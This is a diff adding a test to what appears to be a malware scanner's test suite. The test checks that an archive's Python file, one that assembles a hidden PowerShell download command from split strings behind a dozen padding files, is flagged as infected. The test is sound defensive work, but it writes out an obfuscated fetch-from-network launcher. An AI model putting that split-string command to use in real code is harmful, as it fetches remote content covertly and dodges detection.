@@ -193,3 +193,13 @@ suite('Python behind a limit is not clean', () => {
   for (const [name, source] of Object.entries(cases))
     test(name, () => assert.notEqual(verdictOf([Buffer.from(source), 'a.py']), 'clean'))
 })
+
+test('Python behind other programs of an archive is evaluated, whatever they took', () => {
+  const other = (file: number): string =>
+    `import subprocess\n${times(40, (i) => `def f${i}(x):\n  return ",".join([x + str(i) for i in range(200)])\nz${i} = f${i}("${file}")\n`)}subprocess.run(["git", "status"])\n`
+  const pieces = 'import os\np = ["power", "shell -w hidden iwr http", "://192.0.2.1/a"]\nos.system("".join(p))\n'
+  const files = Array.from({ length: 12 }, (_, i) => ({ name: `${i}.py`, data: Buffer.from(other(i)) }))
+  const archive = (last: string): Buffer => Buffer.from(writeZip([...files, { name: 'z.py', data: Buffer.from(last) }]))
+  assert.equal(verdictOf([archive(pieces), 'a.zip']), 'infected')
+  assert.equal(verdictOf([archive('import os\nos.system("".join(["git", " status"]))\n'), 'a.zip']), 'clean')
+})
